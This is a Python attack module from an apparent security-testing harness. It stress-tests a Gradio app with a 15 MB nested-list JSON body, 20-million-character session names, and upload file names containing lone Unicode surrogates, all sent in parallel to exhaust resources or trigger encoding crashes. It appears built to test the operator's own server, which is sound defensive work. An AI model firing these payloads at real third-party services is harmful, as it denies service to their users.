"""JSON that costs the server more than its sender."""

from devtools.attacks.attacker import Attacker
from devtools.hostile_client import Page

JSON = {"content-type": "application/json"}


def brackets(attacker: Attacker) -> None:
    """15 MB of empty lists, each of which becomes an object."""
    body = b'{"fn_index": 0, "data": [' + b"[]," * 5_000_000 + b'[]], "session_hash": "brackets"}'
    attacker.crowd(
        lambda k, page: page.client.post("/queue/join", content=body, headers=JSON), 10, at_once=2
    )


def long_session_names(attacker: Attacker) -> None:
    """Gradio keeps the name of each session."""
    name = "x" * 20_000_000
    attacker.crowd(lambda k, page: page.join("new_tables", session=f"{k:02}{name}"), 20, at_once=2)


def lone_surrogates(attacker: Attacker) -> None:
    r"""Half a character, which JSON can write (\ud800) and UTF-8 can't."""

    def one(k: int, page: Page) -> tuple[str, str]:
        listener = page.listener("show_own")
        file = page.upload("half.png", b"not a picture")
        names = [file | {"orig_name": f"\ud800{j}.png"} for j in range(10)]
        kind, message = page.ask(listener, [names])
        if "codec can't" in message or "surrogates not allowed" in message:
            attacker.harm(f"a codec's words: {message[:80]}")
        return kind, message

    attacker.crowd(one, 40)
